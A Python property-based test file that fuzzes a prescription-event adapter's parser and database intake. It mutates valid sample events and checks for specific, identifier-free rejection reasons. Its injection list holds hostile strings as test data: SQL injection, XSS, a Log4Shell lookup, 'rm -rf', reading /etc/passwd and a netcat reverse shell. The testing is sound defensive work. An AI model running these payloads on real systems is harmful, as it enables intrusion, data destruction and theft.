"""Hostile and malformed events, property-based (hypothesis).

Every case starts from a VALID event (the sample generator's good events, provider side
included, ``docs/sample-prescription-created.json`` and ``docs/samples/``) and mutates it: a leaf of the wrong type, a huge
string, null, a nested structure; a required key deleted; an unknown key added; deep
nesting; invalid UTF-8; injection strings and control characters in ids and names; Persian
and Arabic-Indic digits mixed into identifiers and dates; dates that do not exist and
Gregorian/Jalali confusion.

Properties:

1. ``parse_event`` returns an event or raises ``EventRejected`` -- never anything else --
   and every problem has a non-empty field path and rule.
2. ``Intake.receive`` on a real SQLite store ends ``invalid`` (or ``stored`` when the
   mutation kept the event valid); the inbox row is ``invalid`` with problems naming the
   mutated field, and no national code, mobile or name of the original event appears in the
   reason or the stored problems.

The regression tests at the end of this file pin bugs found by these properties (now fixed).
"""

from __future__ import annotations

import copy
import datetime as dt
import itertools
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import select

from adapter.app import App
from adapter.events.dates import parse_date
from adapter.events.digits import to_ascii_digits
from adapter.events.parse import MAX_BODY_BYTES, EventRejected, parse_event
from adapter.pipeline.intake import Received
from adapter.samples.generate import generate
from adapter.store.models import InboxEvent
from tests.support.pipeline import offline_app
from tests.support.tree import Path_, get, leaves, put

REPO = Path(__file__).resolve().parents[2]
SAMPLE = REPO / "docs" / "sample-prescription-created.json"
NOW = dt.datetime.now(dt.timezone.utc)


def _good_events() -> list[dict[str, Any]]:
    events, seen = [], set()
    for line in generate(NOW, patients=3, provider_side=True).lines:
        try:
            event = json.loads(line)
        except ValueError:
            continue
        if isinstance(event, dict) and str(event.get("event_id", "")).startswith("evt-") \
                and event["event_id"] not in seen:
            seen.add(event["event_id"])
            events.append(event)
    events.extend(json.loads(path.read_text(encoding="utf-8")) for path in sorted((REPO / "docs" / "samples").glob("*.json")))
    events.append(json.loads(SAMPLE.read_text(encoding="utf-8")))  # last: _sample() below starts from it
    for event in events:  # the starting point really is valid
        parse_event(json.dumps(event, ensure_ascii=False).encode())
    return events


GOOD = _good_events()
_IDS = itertools.count()

PERSIAN = "۰۱۲۳۴۵۶۷۸۹"
ARABIC = "٠١٢٣٤٥٦٧٨٩"
TO_PERSIAN = str.maketrans("0123456789", PERSIAN)
TO_ARABIC = str.maketrans("0123456789", ARABIC)

INJECTIONS = [
    "'; DROP TABLE inbox_events; --", "\" OR 1=1 --", "1' UNION SELECT event_id, body FROM inbox_events --",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://x/a}",
    "$(rm -rf /)", "`reboot`", "; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "../../../../etc/shadow",
    "%s%s%s%n", "\x00", "a\x00b", "\x1b[2J\x1b[H", "\r\nX-Injected: 1", "\u202eevil\u202c", "\ufeff", "\u200b",
    "null", "NaN", "", " ", "\t\n", "ا" * 300,
]
CONTROL = st.text(alphabet=st.characters(codec="utf-8", categories=["Cc", "Cf"]), min_size=1, max_size=8)
BAD_UTF8 = [b"\xff", b"\xfe\xff", b"\xc3\x28", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\x80",
            b"\xe2\x82", b"\xf0\x9f\x98"]
IMPOSSIBLE_DATES = ["1402/12/30", "1403/13/01", "1403/00/10", "1403/07/31", "2024-02-30", "2023-02-29",
                    "1370-01-15", "1403-05-12", "2024/08/02", "02/08/2024", "13700115x", "14031301", "0000-00-00",
                    "1199/01/01", "1600/01/01", "2200-01-01", "1799-12-31", "۱۴۰۲/۱۲/۳۰", "٢٠٢٤-٠٢-٣٠"]
VALID_DATE_SPELLINGS = ["1403/05/12", "14030512", "1403/5/2", "2024-08-02", "1399/12/30", "۱۴۰۳/۰۵/۱۲",
                        "٢٠٢٤-٠٨-٠٢", "۱۴۰۳٠٥۱۲"]
# fields whose digits the contract normalises to ASCII (Digits / NationalCode / Mobile / dates)
DIGIT_FIELDS = {"value", "national_code", "mobile", "medical_council_no", "facility_siam_id"}
DATE_FIELDS = {"birth_date", "expires_on", "start_on"}
DATETIME_FIELDS = {"occurred_at", "prescribed_at", "admitted_at", "cancelled_at"}


# -- walking an event ------------------------------------------------------------------------



def containers(node: Any, path: Path_ = ()) -> Iterator[Path_]:
    """Paths of every dict (where an unknown key can go)."""
    if isinstance(node, dict):
        yield path
        for key, value in node.items():
            yield from containers(value, path + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from containers(value, path + (index,))


def keys(node: Any, path: Path_ = ()) -> Iterator[Path_]:
    """Paths of every dict key (what can be deleted)."""
    if isinstance(node, dict):
        for key, value in node.items():
            yield path + (key,)
            yield from keys(value, path + (key,))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from keys(value, path + (index,))


def phi_of(event: dict[str, Any]) -> set[str]:
    """National codes, mobiles and names of the event (patient and prescriber), in every digit script."""
    found: set[str] = set()

    def walk(node: Any, key: str = "") -> None:
        if isinstance(node, dict):
            if node.get("kind") in ("national_code", "mother_national_code", "fida") and isinstance(node.get("value"), str):
                found.add(node["value"])
            for k, v in node.items():
                walk(v, k)
        elif isinstance(node, list):
            for v in node:
                walk(v, key)
        elif isinstance(node, str) and key in ("national_code", "mobile", "first_name", "last_name"):
            found.add(node)

    walk(event)
    found = {to_ascii_digits(v) for v in found if len(v) >= 3 and v not in ("Test", "Doctor")}
    return found | {v.translate(TO_PERSIAN) for v in found} | {v.translate(TO_ARABIC) for v in found}


# -- cases -------------------------------------------------------------------------------------

@dataclass
class Case:
    label: str
    body: bytes
    expect: str  # "invalid" | "valid" | "either"
    path: Path_ | None  # the mutated field, when a problem must name it
    phi: set[str]
    event: dict[str, Any] | None = None  # the mutated event (None for byte-level mutations)


def dumps(event: Any) -> bytes:
    return json.dumps(event, ensure_ascii=False).encode("utf-8")


wrong_types = st.one_of(
    st.integers(min_value=-(10**30), max_value=10**30), st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(), st.lists(st.integers(), max_size=3), st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)
unknown_keys = st.text(alphabet="abcdefghijklmnopqrstuvwxyz_-.ابپ", min_size=1, max_size=24)


def nested(depth: int, leaf: Any = 1) -> Any:
    value = leaf
    for i in range(depth):
        value = [value] if i % 2 else {"k": value}
    return value


def mixed_digits(draw: st.DrawFn, text: str) -> str:
    scripts = draw(st.lists(st.sampled_from(["ascii", "persian", "arabic"]), min_size=len(text), max_size=len(text)))
    out = []
    for ch, script in zip(text, scripts):
        if ch.isdigit() and ch.isascii() and script != "ascii":
            ch = ch.translate(TO_PERSIAN if script == "persian" else TO_ARABIC)
        out.append(ch)
    return "".join(out)


KINDS = ["wrong_type", "huge_string", "null", "nested", "delete_key", "unknown_key", "deep_body", "deep_leaf",
         "bad_utf8", "injection", "control_chars", "mixed_digits", "impossible_date", "date_spelling", "not_object",
         "truncated"]


@st.composite
def hostile_cases(draw: st.DrawFn, kind: str) -> Case:
    event = copy.deepcopy(draw(st.sampled_from(GOOD)))
    event["event_id"] = f"hx-{next(_IDS):09d}-{event['event_id']}"[:100]
    phi = phi_of(event)
    leaf_paths = list(leaves(event))

    if kind == "wrong_type":
        path = draw(st.sampled_from(leaf_paths))
        value = draw(wrong_types)
        put(event, path, value)
        return Case(kind, dumps(event), "either", path, phi, event)
    if kind == "huge_string":
        path = draw(st.sampled_from(leaf_paths))
        chars = draw(st.sampled_from([4_001, 65_536, 300_000, 490_000, 999_000, MAX_BODY_BYTES + 1]))
        char = draw(st.sampled_from(["x", "۹", "9", "ي", "\u200b"]))
        put(event, path, char * chars)  # longer than any string the contract allows
        body = dumps(event)
        # over the limit: "$"; else the field (every string in the contract has a length bound)
        return Case(kind, body, "invalid", None if len(body) > MAX_BODY_BYTES else path, phi, event)
    if kind == "null":
        path = draw(st.sampled_from(leaf_paths))
        put(event, path, None)
        return Case(kind, dumps(event), "either", path, phi, event)
    if kind == "nested":
        path = draw(st.sampled_from(leaf_paths))
        put(event, path, nested(draw(st.integers(1, 60)), get(event, path)))
        return Case(kind, dumps(event), "invalid", path, phi, event)
    if kind == "delete_key":
        # not event_id: the unreadable-body cases cover a missing id, and ids stay unique here
        path = draw(st.sampled_from([p for p in keys(event) if p != ("event_id",)]))
        del get(event, path[:-1])[path[-1]]
        return Case(kind, dumps(event), "either", path, phi, event)
    if kind == "unknown_key":
        where = draw(st.sampled_from(list(containers(event))))
        key = draw(unknown_keys)
        target = get(event, where)
        assume(key not in target)
        target[key] = draw(st.one_of(st.none(), st.integers(), st.text(max_size=10)))
        return Case(kind, dumps(event), "invalid", where + (key,), phi, event)
    if kind == "deep_body":
        depth = draw(st.sampled_from([10, 500, 985, 995, 1_000, 10_000, 100_000]))
        opener, closer = draw(st.sampled_from([("[", "]"), ('{"a":', "}")]))
        inner = dumps(event).decode()
        body = (opener * depth + inner + closer * depth).encode()
        return Case(kind, body, "invalid", None, phi)
    if kind == "deep_leaf":
        path = draw(st.sampled_from(leaf_paths))
        depth = draw(st.sampled_from([50, 900, 980, 990, 1_000, 10_000]))
        marker = "\u0001MARK\u0001"
        put(event, path, marker)
        text = dumps(event).decode().replace(json.dumps(marker, ensure_ascii=False), "[" * depth + "]" * depth)
        return Case(kind, text.encode(), "invalid", None, phi)
    if kind == "bad_utf8":
        body = dumps(event)
        at = draw(st.integers(0, len(body)))
        junk = draw(st.sampled_from(BAD_UTF8))
        return Case(kind, body[:at] + junk + body[at:], "invalid", None, phi)
    if kind in ("injection", "control_chars"):
        candidates = [p for p in leaf_paths if p[-1] in (
            "event_id", "prescription_id", "visit_id", "first_name", "last_name", "code", "source_system",
            "correlation_id", "comments", "note", "reason", "medical_council_no", "value")]
        path = draw(st.sampled_from(candidates))
        value = draw(st.sampled_from(INJECTIONS)) if kind == "injection" else \
            draw(st.sampled_from(["", "Ali"])) + draw(CONTROL) + draw(st.sampled_from(["", "Ahmadi"]))
        if path == ("event_id",):
            value = f"hx-{next(_IDS):09d}-{value}"  # unique, still hostile (the id pattern refuses it)
        put(event, path, value)
        refused_id = path == ("event_id",) and not re.fullmatch(r"[A-Za-z0-9._:-]{1,100}", value.strip())
        expect = "invalid" if refused_id else "either"
        return Case(kind, dumps(event), expect, path, phi, event)
    if kind == "mixed_digits":
        candidates = [p for p in leaf_paths if p[-1] in DIGIT_FIELDS | DATE_FIELDS | DATETIME_FIELDS
                      and isinstance(get(event, p), str)]
        path = draw(st.sampled_from(candidates))
        put(event, path, mixed_digits(draw, get(event, path)))
        return Case(kind, dumps(event), "either", path, phi, event)
    if kind == "impossible_date":
        candidates = [p for p in leaf_paths if p[-1] in DATE_FIELDS]
        assume(candidates)
        path = draw(st.sampled_from(candidates))
        put(event, path, draw(st.sampled_from(IMPOSSIBLE_DATES)))
        return Case(kind, dumps(event), "invalid", path, phi, event)
    if kind == "date_spelling":
        assume("patient" in event["payload"])
        path = ("payload", "patient", "birth_date")
        put(event, path, draw(st.sampled_from(VALID_DATE_SPELLINGS)))
        return Case(kind, dumps(event), "valid", path, phi, event)
    if kind == "not_object":
        body = draw(st.sampled_from([b"", b"null", b"[]", b"42", b'"event"', b"true", b"[{}]", b"{", b"}",
                                     b"\xef\xbb\xbf{}", b"NaN", b"   ", dumps([event])]))
        return Case(kind, body, "invalid", None, phi)
    # truncated: the body cut anywhere is never a valid event
    body = dumps(event)
    cut = draw(st.integers(0, len(body) - 1))
    return Case(kind, body[:cut], "invalid", None, phi)


def related(field: str, path: Path_) -> bool:
    """A problem names the mutated field: its path, a parent (a model-level rule), or a child."""
    want = ".".join(str(p) for p in path)
    return field != "$" and (field == want or field.startswith(want + ".") or want.startswith(field + "."))


def leaks(text: str, phi: set[str]) -> list[str]:
    return [value for value in phi if value in text]


# ~15 examples per kind of mutation: about 240 per property, a few seconds in all
SETTINGS = settings(max_examples=15, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.large_base_example])


# -- property 1: parse_event ------------------------------------------------------------------

@pytest.mark.parametrize("kind", KINDS)
@SETTINGS
@given(data=st.data())
def test_parse_event_returns_an_event_or_rejects_with_specific_problems(kind: str, data: st.DataObject) -> None:
    case = data.draw(hostile_cases(kind))
    try:
        event = parse_event(case.body)
    except EventRejected as rejected:
        assert case.expect != "valid", f"{case.label}: refused a valid spelling: {rejected}"
        assert rejected.problems, "a rejection must say why"
        for problem in rejected.problems:
            assert problem.field.strip(), problem
            assert problem.rule.strip(), problem
        if case.path is not None:
            assert any(related(p.field, case.path) for p in rejected.problems), \
                f"{case.label} at {case.path}: problems name other fields: {rejected.problems}"
        assert not leaks(str(rejected), case.phi), f"{case.label}: identifier in reason {rejected}"
        return
    assert case.expect != "invalid", f"{case.label} at {case.path} was accepted"
    if case.label == "mixed_digits" and case.path is not None:
        dumped = event.model_dump(mode="json")
        original = to_ascii_digits(get(case.event, case.path))
        value = get(dumped, case.path)
        if case.path[-1] in DATE_FIELDS:
            assert value == str(parse_date(original))
        elif case.path[-1] not in DATETIME_FIELDS:
            assert value == original.strip() and value.isascii(), (case.path, value)


@settings(SETTINGS, max_examples=100)
@given(event=st.sampled_from(GOOD), data=st.data())
def test_persian_and_arabic_digits_in_identifiers_normalise_to_ascii(event: dict[str, Any], data: st.DataObject) -> None:
    """Mixed ۰-۹ / ٠-٩ digits in national codes, mobiles, council numbers, the facility id and
    calendar dates are VALID and come out as ASCII; in date-times they are refused by name."""
    event = copy.deepcopy(event)
    paths = [p for p in leaves(event) if p[-1] in DIGIT_FIELDS | DATE_FIELDS and isinstance(get(event, p), str)]
    originals = {p: get(event, p) for p in paths}
    for path in paths:
        put(event, path, mixed_digits(data.draw, originals[path]))
    parsed = parse_event(dumps(event)).model_dump(mode="json")
    for path, original in originals.items():
        if path[-1] in DATE_FIELDS:
            assert get(parsed, path) == str(parse_date(original))
        else:
            assert get(parsed, path) == original
    stamp = data.draw(st.sampled_from([p for p in leaves(event) if p[-1] in DATETIME_FIELDS]))
    original = get(event, stamp)
    put(event, stamp, original.translate(TO_PERSIAN))
    with pytest.raises(EventRejected) as caught:
        parse_event(dumps(event))
    assert any(p.field == ".".join(map(str, stamp)) for p in caught.value.problems), caught.value.problems


# -- property 2: Intake.receive on a real SQLite store ---------------------------------------

@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[App]:
    yield from offline_app(tmp_path_factory.mktemp("hostile"))


_RECEIVED: set[str] = set()


@pytest.mark.parametrize("kind", KINDS)
@SETTINGS
@given(data=st.data())
def test_intake_stores_hostile_events_as_invalid_with_a_specific_phi_free_reason(app: App, kind: str,
                                                                                 data: st.DataObject) -> None:
    case = data.draw(hostile_cases(kind))
    result = app.intake.receive(case.body)
    event(f"{case.label}: {result.outcome.value}")
    if result.outcome is Received.duplicate:  # hypothesis replays an example: same body, same id
        assert result.event_id in _RECEIVED
        return
    _RECEIVED.add(result.event_id)
    with app.sessions() as session:
        row = session.scalar(select(InboxEvent).where(InboxEvent.event_id == result.event_id))
        assert row is not None
        status, problems = row.status, row.problems
    if result.outcome is Received.stored:
        assert case.expect != "invalid", f"{case.label} at {case.path} was stored"
        assert status in ("accepted", "unrouted")
        return
    assert result.outcome is Received.invalid
    assert case.expect != "valid", f"{case.label}: refused a valid spelling: {result.reason}"
    assert status == "invalid"
    assert problems and all(p["field"] and p["rule"] for p in problems), problems
    assert result.reason and problems[0]["rule"] in result.reason
    if case.path is not None:
        assert any(related(p["field"], case.path) for p in problems), \
            f"{case.label} at {case.path}: problems name other fields: {problems}"
    assert not leaks(result.reason, case.phi), f"{case.label}: identifier in reason {result.reason!r}"
    assert not leaks(json.dumps(problems, ensure_ascii=False), case.phi), f"{case.label}: identifier in {problems}"


@pytest.mark.parametrize("body, rule", [
    (b"\xff\xfe not utf-8", "not UTF-8"),
    (b"[" * 10_000 + b"]" * 10_000, "nested too deeply"),
    (b"x" * (MAX_BODY_BYTES + 1), "larger than"),
    (b'{"event_id": "e", "event_type": ', "malformed JSON"),
    (b"[]", "expected a JSON object"),
])
def test_unreadable_bodies_get_a_fingerprint_id_and_a_specific_reason(app: App, body: bytes, rule: str) -> None:
    first = app.intake.receive(body)
    _RECEIVED.add(first.event_id)
    assert first.outcome in (Received.invalid, Received.duplicate)
    assert first.event_id.startswith("unreadable-")
    if first.outcome is Received.invalid:
        assert rule in first.reason
    assert app.intake.receive(body).outcome is Received.duplicate  # redelivery dedupes


def test_impossible_jalali_date_is_refused_by_name() -> None:
    event = copy.deepcopy(GOOD[-1])
    event["payload"]["patient"]["birth_date"] = "1402/12/30"
    with pytest.raises(EventRejected) as caught:
        parse_event(dumps(event))
    assert [p.field for p in caught.value.problems] == ["payload.patient.birth_date"]
    assert "Solar Hijri" in caught.value.problems[0].rule


# -- known bugs ------------------------------------------------------------------------------

def _sample() -> dict[str, Any]:
    return copy.deepcopy(GOOD[-1])


def test_huge_integer_literal_is_rejected_not_crashed() -> None:
    body = dumps(_sample()).replace(b'"quantity": 20', b'"quantity": ' + b"9" * 5_000)
    assert b"9" * 5_000 in body
    with pytest.raises(EventRejected) as caught:
        parse_event(body)
    assert caught.value.problems[0].field == "$"


@pytest.mark.parametrize("field", ["event_id", "event_type"])
def test_lone_surrogate_in_envelope_is_stored_invalid(app: App, field: str) -> None:
    event = _sample()
    event["event_id"] = f"hx-surrogate-{field}"
    body = dumps(event).replace(json.dumps(event[field]).encode(), b'"x-\\ud800"')
    result = app.intake.receive(body)
    assert result.outcome is Received.invalid


@pytest.mark.parametrize("key", ["national_code", "mobile"])
def test_unknown_key_named_after_an_identifier_does_not_leak(key: str) -> None:
    event = _sample()
    secret = event["payload"]["prescriber"][key]
    event["payload"]["patient"][secret] = True
    with pytest.raises(EventRejected) as caught:
        parse_event(dumps(event))
    assert secret not in str(caught.value)


@pytest.mark.parametrize("digits", ["０１２３４５６７８９", "०१२३४५६७८९"], ids=["fullwidth", "devanagari"])
def test_other_unicode_digits_are_normalised_or_refused(digits: str) -> None:
    event = _sample()
    event["payload"]["patient"]["identity"]["value"] = "0012345679".translate(str.maketrans("0123456789", digits))
    try:
        parsed = parse_event(dumps(event))
    except EventRejected:
        return
    assert parsed.payload.patient.identity.value == "0012345679"


def test_icd10_with_persian_digits_is_normalised_or_refused() -> None:
    event = _sample()
    event["payload"]["items"][0]["diagnosis_icd10"] = "J۰۶.9"
    try:
        parsed = parse_event(dumps(event))
    except EventRejected:
        return
    assert parsed.payload.items[0].diagnosis_icd10 == "J06.9"


@pytest.mark.parametrize("field", ["occurred_at", "prescribed_at"])
@pytest.mark.parametrize("value", ["1403-05-12T10:00:00+03:30", 12345], ids=["jalali-year", "epoch-number"])
def test_jalali_year_or_number_as_a_datetime_is_refused(field: str, value: Any) -> None:
    event = _sample()
    target = event if field == "occurred_at" else event["payload"]
    target[field] = value
    with pytest.raises(EventRejected):
        parse_event(dumps(event))


# issue 16 item 15: CR/LF and other control characters in ids, bidi overrides in names, reached
# the insurer's payloads (the contract refused only C0 controls but TAB/LF/CR, anywhere)
ID_FIELDS = {"prescription_id", "visit_id", "bill_id", "order_id", "dispense_id", "result_id", "medical_record_number",
             "correlation_id", "source_system", "facility_siam_id", "code", "dose", "instruction", "insurer", "box",
             "ward", "insured_number"}
NAME_FIELDS = {"first_name", "last_name", "specialty", "facility_name"}
NAME_KEEPS = "\u200c\u200d\u200e\u200f\u061c\u200b\u00ad\ufeff\u2060"  # kept: ZWNJ, ZWJ; dropped: the rest


@settings(SETTINGS, max_examples=150)
@given(event=st.sampled_from(GOOD), data=st.data())
def test_control_characters_in_ids_and_bidi_controls_in_names_are_refused_by_name(event: dict[str, Any],
                                                                                  data: st.DataObject) -> None:
    event = copy.deepcopy(event)
    paths = [p for p in leaves(event) if isinstance(get(event, p), str) and (
        p[-1] in ID_FIELDS | NAME_FIELDS or p[-2:-1] == ("identity",) and p[-1] == "value")]
    path = data.draw(st.sampled_from(paths))
    if path[-1] in NAME_FIELDS:
        char = data.draw(st.characters(codec="utf-8", categories=["Cc", "Cf", "Zl", "Zp"],
                                       exclude_characters=NAME_KEEPS))
    else:
        char = data.draw(st.characters(codec="utf-8", categories=["Cc", "Cf", "Zl", "Zp"]))
    original = get(event, path)
    put(event, path, original[:1] + char + original[1:] if len(original) > 1 else original + char + "x")
    with pytest.raises(EventRejected) as caught:
        parse_event(dumps(event))
    rules = [p.rule for p in caught.value.problems if p.field == ".".join(map(str, path))]
    assert rules and f"U+{ord(char):04X}" in rules[0], (path, char, caught.value.problems)
    assert not leaks(str(caught.value), phi_of(event))
